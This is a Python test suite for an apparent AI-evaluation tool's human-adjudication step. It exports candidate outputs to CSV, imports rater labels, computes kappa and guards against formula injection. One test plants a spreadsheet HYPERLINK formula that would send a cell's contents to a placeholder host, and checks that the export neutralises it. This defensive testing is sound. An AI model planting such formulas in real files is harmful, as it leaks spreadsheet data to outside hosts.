"""Human adjudication: export candidates -> raters fill labels -> import as a child bundle with kappa."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import fake_run as fake  # tests/analysis/test_analyze/fake_run.py, on sys.path via tests/conftest.py
import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from statsmodels.stats.inter_rater import aggregate_raters, cohens_kappa, fleiss_kappa

from batchsafe.analysis.adjudication import (
    SCORER_LABELS,
    export_candidates,
    import_labels,
    render_export,
    render_import,
)
from batchsafe.analysis.adjudication_csv import COLUMNS, dump_csv, neutralise, read_csv, restore
from batchsafe.analysis.adjudication_models import AdjudicationError, read_labels, read_summary
from batchsafe.analysis.adjudication_stats import majority
from batchsafe.analysis.analyze import analyze_run
from batchsafe.analysis.records import UNSAFE_DIRECTIONS
from batchsafe.core.canonical import canonical_bytes
from batchsafe.bundles.from_run import bundle_run
from batchsafe.bundles.store import BundleStore
from batchsafe.verification.source import from_store

HERE = Path(__file__).parent


def _make_bundle(plan, tmp: Path, store: BundleStore, edit=None) -> tuple[str, object]:
    """A complete analysed bundle of the fake run; ``edit(outputs)`` may change output records first."""
    rd = fake.write_run_dir(plan, tmp / "run")
    if edit is not None:
        path = rd / "outputs" / "samples.jsonl"
        recs = [json.loads(x) for x in path.read_text().splitlines()]
        by_id = {r["sample"]: r for r in recs}
        edit(by_id)
        path.write_bytes(b"".join(canonical_bytes(r) for r in recs))
    res = analyze_run(plan, rd, plots=False)
    return bundle_run(rd, plan, store, extra=res.bundle_files()), res


@pytest.fixture(scope="module")
def plan():
    return fake.mini_plan()


@pytest.fixture(scope="module")
def bundle(plan, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("adj")
    store = BundleStore(tmp / "store")
    bid, res = _make_bundle(plan, tmp, store)
    return store, bid, res


@pytest.fixture(scope="module")
def exported(bundle, tmp_path_factory):
    store, bid, _ = bundle
    out = tmp_path_factory.mktemp("exp") / "candidates.csv"
    res = export_candidates(from_store(store, bid), out)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    return res, rows


def _objects(store: BundleStore) -> set[Path]:
    return {p for p in store.objects_dir.rglob("*") if p.is_file()}


def _write_filled(path: Path, rows: list[dict], rater: str, labels: dict[str, str],
                  notes: dict[str, str] | None = None):
    """A rater's copy of the export: the same rows, with rater / human_label / notes filled where labelled."""
    table = [[*(r[c] for c in COLUMNS[:-3]), rater if r["item"] in labels else "", labels.get(r["item"], ""),
              (notes or {}).get(r["item"], "")] for r in rows]
    # dump_csv neutralises again, as a spreadsheet keeps the quote it was given: restore what DictReader saw.
    path.write_bytes(dump_csv([[restore(c) for c in row] for row in table], COLUMNS))
    return path


# --- export -------------------------------------------------------------------------------


def test_export_writes_every_flipped_row_in_a_fixed_order(bundle, exported, plan):
    _, bid, res = bundle
    ex, rows = exported
    flipped = {f.sample: f for f in res.flips if f.flipped}
    assert ex.candidates == len(rows) == len(flipped) == fake.expected_flips(plan) > 0
    assert list(rows[0]) == list(COLUMNS)
    assert {r["item"] for r in rows} == set(flipped)
    phase_order = [p.id for p in plan.phases]
    keys = [(phase_order.index(r["phase"]), r["model"], r["prompt_id"], r["condition"]) for r in rows]
    assert keys == sorted(keys) and len(set(keys)) == len(keys)
    outputs = fake.fake_outputs(plan)
    prompts = {p.id: p for p in plan.prompts}
    for r in rows:
        f = flipped[r["item"]]
        assert r["bundle"] == bid and r["baseline_sample"] == f.baseline and r["task"] == f.task
        assert (r["baseline_label"], r["label"], r["direction"]) == (f.baseline_label, f.label, f.direction)
        assert r["condition"] == f.condition.label() and r["condition"] != "default"
        assert restore(r["output"]) == outputs[f.sample]["text"]
        assert restore(r["baseline_output"]) == outputs[f.baseline]["text"]
        assert restore(r["prompt_text"]) == prompts[f.prompt].messages[-1].content
        assert r["rater"] == r["human_label"] == r["notes"] == ""
    raw = ex.path.read_bytes()
    assert b"\r\n" not in raw and raw.startswith(b"item,bundle,")
    assert sum(ex.by_direction.values()) == ex.candidates
    assert f"wrote {ex.candidates} candidate(s)" in render_export(ex)


@pytest.mark.parametrize("include", ["unsafe", "safety"])
def test_export_subsets(bundle, include, tmp_path):
    store, bid, res = bundle
    ex = export_candidates(from_store(store, bid), tmp_path / "c.csv", include=include)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "c.csv").read_text(), newline="")))
    flipped = [f for f in res.flips if f.flipped]
    want = ({f.sample for f in flipped if f.direction in UNSAFE_DIRECTIONS} if include == "unsafe"
            else {f.sample for f in flipped if f.domain == "safety"})
    assert {r["item"] for r in rows} == want and 0 < ex.candidates == len(want) < len(flipped)
    with pytest.raises(AdjudicationError, match="unknown candidate set"):
        export_candidates(from_store(store, bid), tmp_path / "d.csv", include="all")  # type: ignore[arg-type]


def test_blind_export_hides_the_scorer_verdict(bundle, tmp_path):
    store, bid, _ = bundle
    ex = export_candidates(from_store(store, bid), tmp_path / "b.csv", blind=True)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "b.csv").read_text(), newline="")))
    assert ex.blind and len(rows) == ex.candidates > 0
    assert all(r["baseline_label"] == r["label"] == r["direction"] == "" and r["output"] for r in rows)


def test_bundle_without_flips_exports_a_header_only(plan, tmp_path):
    store = BundleStore(tmp_path / "store")

    def same_as_baseline(by_id):
        for r in by_id.values():
            s = next(x for x in plan.samples if x.id == r["sample"])
            if s.baseline:
                r["text"] = by_id[s.baseline]["text"]

    bid, res = _make_bundle(plan, tmp_path, store, same_as_baseline)
    assert res.flips and not any(f.flipped for f in res.flips)
    ex = export_candidates(from_store(store, bid), tmp_path / "none.csv")
    assert ex.candidates == 0 and (tmp_path / "none.csv").read_text() == ",".join(COLUMNS) + "\n"
    assert "wrote 0 candidate(s)" in render_export(ex)
    with pytest.raises(AdjudicationError, match="no labels"):
        import_labels(store, bid, [tmp_path / "none.csv"])


# --- import: the round trip ----------------------------------------------------------------


def _plan_labels(rows):
    """Rater a and b verdicts with known false flips (both say baseline) and disagreements."""
    items = [r["item"] for r in rows]
    false_items = set(items[0:4])
    disagree = set(items[4:9])
    a = {r["item"]: r["baseline_label"] if r["item"] in false_items else r["label"] for r in rows}
    b = {r["item"]: r["baseline_label"] if r["item"] in false_items | disagree else r["label"] for r in rows}
    return a, b, false_items, disagree


def test_round_trip_two_raters(bundle, exported, tmp_path):
    store, bid, res = bundle
    _, rows = exported
    a, b, false_items, disagree = _plan_labels(rows)
    fa = _write_filled(tmp_path / "alice.csv", rows, "alice", a, {rows[0]["item"]: "=curly apostrophe, I can’t"})
    fb = _write_filled(tmp_path / "bob.csv", rows, " bob ", b)
    before = _objects(store)
    out = import_labels(store, bid, [fa, fb])

    child = store.manifest(out.child_id)
    parent = store.manifest(bid)
    assert child.kind == "adjudication" and child.parent == bid == out.parent_id
    kids = {e.name: e for e in child.files}
    statement = "attestation/provenance.intoto.json"  # the child's own: its subjects are the child's files
    for e in parent.files:  # every parent file, the same object
        assert e.name == statement or kids[e.name].sha256 == e.sha256 and store.object_path(e.sha256).is_file()
    assert set(kids) - {e.name for e in parent.files} == {"adjudication/labels.jsonl", "adjudication/summary.json",
                                                          "adjudication/report.md"}
    assert len(_objects(store) - before) <= 4  # only the three new files and the new statement are stored
    assert store.verify(out.child_id) == []

    recs = read_labels(store.read(out.child_id, "adjudication/labels.jsonl"))
    assert recs == out.records and len(recs) == 2 * len(rows)
    got = {(r.item, r.rater): r.human_label for r in recs}
    assert got == {**{(i, "alice"): x for i, x in a.items()}, **{(i, "bob"): x for i, x in b.items()}}
    assert next(r for r in recs if r.rater == "alice" and r.item == rows[0]["item"]).notes == \
        "=curly apostrophe, I can’t"
    flipped = {f.sample: f for f in res.flips if f.flipped}
    assert all(r.heuristic_label == flipped[r.item].label and r.baseline_label == flipped[r.item].baseline_label
               for r in recs)

    s = read_summary(store.read(out.child_id, "adjudication/summary.json"))
    assert s == out.summary and s.parent == bid and s.raters == ["alice", "bob"] and s.multi_rated_items == len(rows)
    # Kappa recomputed here from the same verdicts with statsmodels.
    items = sorted(a)
    cats = sorted(set(a.values()) | set(b.values()))
    table = np.zeros((len(cats), len(cats)))
    for i in items:
        table[cats.index(a[i]), cats.index(b[i])] += 1
    k = s.agreement
    assert k is not None and k.method == "cohen" and k.n == len(items) and k.categories == cats
    assert k.table == table.astype(int).tolist()
    assert k.kappa == pytest.approx(cohens_kappa(table).kappa) and 0 < k.kappa < 1
    assert k.observed_agreement == pytest.approx(1 - len(disagree) / len(items))

    au = s.audit
    assert au.candidates == au.labelled == len(rows) and au.unlabelled == 0
    assert (au.confirmed, au.false_flips, au.unresolved) == (len(rows) - 9, 4, 5)
    confirmed = [i for i in items if i not in false_items | disagree]
    assert au.confirmed_unsafe == sum(flipped[i].direction in UNSAFE_DIRECTIONS for i in confirmed)
    assert sum(d.confirmed for d in au.by_direction.values()) == au.confirmed
    assert (s.heuristic.n, s.heuristic.agree) == (len(rows) - 5, len(rows) - 9)
    report = store.read(out.child_id, "adjudication/report.md").decode()
    assert f"{len(rows)} labelled candidates -> {au.confirmed} confirmed flips" in report and "Cohen's kappa" in report
    text = render_import(out)
    assert out.child_id in text and "Cohen's kappa" in text and out.skipped_empty == 0

    # Same labels again, even merged into one file in another order: same child.
    assert import_labels(store, bid, [fb, fa]).child_id == out.child_id
    merged = tmp_path / "merged.csv"
    body_a = fa.read_text().split("\n", 1)[1]
    merged.write_text(fb.read_text() + body_a)
    assert import_labels(store, bid, [merged]).child_id == out.child_id
    # A spreadsheet re-save (BOM, CRLF) changes nothing either.
    crlf = tmp_path / "excel.csv"
    crlf.write_bytes(b"\xef\xbb\xbf" + merged.read_bytes().replace(b"\n", b"\r\n"))
    assert import_labels(store, bid, [crlf]).child_id == out.child_id


def test_perfect_agreement_gives_kappa_one(bundle, exported, tmp_path):
    store, bid, _ = bundle
    _, rows = exported
    labels = {r["item"]: r["label"] for r in rows}
    assert len(set(labels.values())) > 1
    out = import_labels(store, bid, [_write_filled(tmp_path / "a.csv", rows, "a", labels),
                                     _write_filled(tmp_path / "b.csv", rows, "b", labels)])
    k = out.summary.agreement
    assert k is not None and k.kappa == pytest.approx(1.0) and k.observed_agreement == 1.0
    assert out.summary.audit.confirmed == len(rows) and out.summary.heuristic.rate == 1.0


def test_three_raters_use_fleiss_kappa(bundle, exported, tmp_path):
    store, bid, _ = bundle
    _, rows = exported
    a, b, _, _ = _plan_labels(rows)
    c = {i: ("unclear" if n % 3 == 0 else x) for n, (i, x) in enumerate(sorted(a.items()))}
    del c[rows[-1]["item"]]  # carol skipped one item: it drops out of the common items
    files = [_write_filled(tmp_path / f"{n}.csv", rows, n, lab) for n, lab in (("a", a), ("b", b), ("c", c))]
    s = import_labels(store, bid, files).summary
    k = s.agreement
    assert k is not None and k.method == "fleiss" and k.raters == ["a", "b", "c"]
    common = sorted(set(a) - {rows[-1]["item"]})
    assert k.items == common and k.n == len(common)
    cats = sorted({x for lab in (a, b, c) for i, x in lab.items() if i in common})
    codes = np.array([[cats.index(lab[i]) for lab in (a, b, c)] for i in common])
    agg, _ = aggregate_raters(codes, n_cat=len(cats))
    assert k.table == agg.tolist() and k.kappa == pytest.approx(fleiss_kappa(agg, method="fleiss"))
    assert [p.raters for p in s.pairwise] == [["a", "b"], ["a", "c"], ["b", "c"]]
    assert s.pairwise[0].kappa == pytest.approx(import_labels(store, bid, files[:2]).summary.agreement.kappa)
    assert s.per_rater["c"].labels == len(rows) - 1 and s.per_rater["c"].by_label["unclear"] > 0


def test_one_rater_and_skipped_empty_labels(bundle, exported, tmp_path):
    store, bid, _ = bundle
    _, rows = exported
    some = {r["item"]: r["label"] for r in rows[:7]}
    some[rows[7]["item"]] = "Unclear"  # case-insensitive, stored in the allowed spelling
    out = import_labels(store, bid, [_write_filled(tmp_path / "a.csv", rows, "a", some)])
    s = out.summary
    assert out.skipped_empty == len(rows) - 8 and out.rows_read == len(rows)
    assert s.agreement is None and s.pairwise == [] and "no inter-rater kappa" in render_import(out)
    assert s.audit.labelled == 8 and s.audit.unlabelled == len(rows) - 8 and s.audit.unresolved == 1
    assert {r.human_label for r in out.records if r.item == rows[7]["item"]} == {"unclear"}


def test_majority_needs_a_strict_decided_plurality():
    assert majority(["refusal", "refusal", "compliance"]) == "refusal"
    assert majority(["refusal", "compliance"]) is None
    assert majority(["unclear", "unclear", "refusal"]) is None
    assert majority([]) is None


# --- import: errors -------------------------------------------------------------------------


def _mini_csv(path: Path, rows: list[list[str]]) -> Path:
    buf = io.StringIO(newline="")
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["item", "bundle", "rater", "human_label", "notes"])
    w.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def _refusal_row(rows, res):
    flipped = {f.sample: f for f in res.flips if f.flipped}
    return next(r for r in rows if flipped[r["item"]].label in SCORER_LABELS["refusal"])


@pytest.mark.parametrize("case, needle", [
    ("unknown_item", "not a flip row"),
    ("unflipped_item", "not a flipped row"),
    ("wrong_bundle", "is not the parent bundle"),
    ("bad_label", "is not allowed for item"),
    ("missing_rater", "rater column is empty"),
    ("conflict", "one verdict per rater and item"),
])
def test_bad_rows_are_named_by_file_and_line(bundle, exported, tmp_path, case, needle):
    store, bid, res = bundle
    _, rows = exported
    good = _refusal_row(rows, res)
    item, label = good["item"], good["label"]
    bad = {"unknown_item": ["s_0000000000000000", bid, "x", label, ""],
           "unflipped_item": [next(f.sample for f in res.flips if not f.flipped), bid, "x", label, ""],
           "wrong_bundle": [item, "sha256:" + "0" * 64, "x", label, ""],
           "bad_label": [item, bid, "x", "correct", ""],  # a capability label on a refusal item
           "missing_rater": [item, bid, "  ", label, ""],
           "conflict": [item, bid, "x", "refusal" if label == "compliance" else "compliance", ""]}[case]
    # Line 2 is a good row whose notes span two physical lines, so the bad row starts on line 4.
    path = _mini_csv(tmp_path / f"{case}.csv", [[item, bid, "x", label, "first\nsecond"], bad])
    with pytest.raises(AdjudicationError) as err:
        import_labels(store, bid, [path])
    assert f"{path}:4: " in str(err.value) and needle in str(err.value)
    if case == "conflict":
        assert f"{path}:2" in str(err.value)
    assert len(err.value.errors) == 1


def test_all_errors_are_reported_together_and_no_child_is_written(bundle, exported, tmp_path):
    store, bid, res = bundle
    _, rows = exported
    good = _refusal_row(rows, res)
    p1 = _mini_csv(tmp_path / "one.csv", [[good["item"], bid, "x", "nonsense", ""], ["s_nope", bid, "", "refusal", ""]])
    p2 = tmp_path / "two.csv"
    p2.write_text("item,rater\nx,y\n")
    before = set(store.list_bundles())
    with pytest.raises(AdjudicationError) as err:
        import_labels(store, bid, [p1, p2])
    msgs = err.value.errors
    assert any(m.startswith(f"{p1}:2: human_label 'nonsense'") for m in msgs)
    assert any(m.startswith(f"{p1}:3: item 's_nope'") for m in msgs)
    assert any(m.startswith(f"{p1}:3: rater column is empty") for m in msgs)
    assert any(m.startswith(f"{p2}:1: missing column(s) bundle, human_label") for m in msgs)
    assert set(store.list_bundles()) == before
    with pytest.raises(AdjudicationError, match="cannot read"):
        import_labels(store, bid, [tmp_path / "missing.csv"])
    (tmp_path / "latin1.csv").write_bytes("item,bundle,rater,human_label\n\xe9".encode("latin-1"))
    with pytest.raises(AdjudicationError, match="not UTF-8"):
        import_labels(store, bid, [tmp_path / "latin1.csv"])


def test_allowed_labels_override_and_readers_refuse_newer_versions(bundle, exported, tmp_path):
    store, bid, res = bundle
    _, rows = exported
    good = _refusal_row(rows, res)
    p = _mini_csv(tmp_path / "g.csv", [[good["item"], bid, "x", "GENUINE", ""]])
    out = import_labels(store, bid, [p], allowed_labels=["genuine", "noise"])
    assert out.records[0].human_label == "genuine"
    assert out.summary.audit.confirmed == 1  # "genuine" differs from the baseline's scorer label
    line = json.loads(store.read(out.child_id, "adjudication/labels.jsonl"))
    with pytest.raises(AdjudicationError, match="newer"):
        read_labels(canonical_bytes({**line, "schema_version": 2}))
    summ = json.loads(store.read(out.child_id, "adjudication/summary.json"))
    with pytest.raises(AdjudicationError, match="newer"):
        read_summary(canonical_bytes({**summ, "schema_version": 2}))
    with pytest.raises(AdjudicationError, match="invalid"):
        read_summary(canonical_bytes({**summ, "extra": 1}))


# --- formula injection ----------------------------------------------------------------------

_texts = st.tuples(st.sampled_from(list("=+-@'\t\r")), st.text(st.characters(blacklist_categories=("Cs",)))).map(
    "".join)


@settings(max_examples=200, deadline=None)
@given(text=_texts, other=st.text(st.characters(blacklist_categories=("Cs",))))
def test_dangerous_cells_are_neutralised_and_round_trip(text, other):
    raw = dump_csv([[text, other]], ["item", "bundle"]).decode()
    plain = list(csv.reader(io.StringIO(raw, newline="")))
    assert plain[1][0] == "'" + text  # what a spreadsheet sees starts with a quote, not a formula
    assert (plain[1][1] or " ")[0] not in "=+-@\t\r"
    back = read_csv(raw.replace("item,bundle", "item,bundle,rater,human_label", 1), "t.csv")
    cells = back[0].cells if back else {"item": "", "bundle": ""}
    assert (cells["item"], cells["bundle"]) == (text, other) or not (text + other).strip()
    assert restore(neutralise(text)) == text and restore(neutralise(other)) == other


def test_formula_outputs_in_a_bundle_are_exported_inert(plan, tmp_path):
    store = BundleStore(tmp_path / "store")
    payload = '=HYPERLINK("http://x.invalid/?"&A1,"Sure, here is how")'

    def inject(by_id):
        for r in by_id.values():
            if r["text"] == "Sure, here is how to do it.":
                r["text"] = payload

    bid, _ = _make_bundle(plan, tmp_path, store, inject)
    export_candidates(from_store(store, bid), tmp_path / "c.csv")
    raw = (tmp_path / "c.csv").read_text()
    plain = list(csv.DictReader(io.StringIO(raw, newline="")))
    hits = [r for r in plain if "'" + payload in (r["output"], r["baseline_output"])]
    assert hits and not [r for r in plain if payload in (r["output"], r["baseline_output"])]
    restored = {row.cells["item"]: row.cells for row in read_csv(raw, "c.csv")}
    assert all(payload in (restored[r["item"]]["output"], restored[r["item"]]["baseline_output"]) for r in hits)
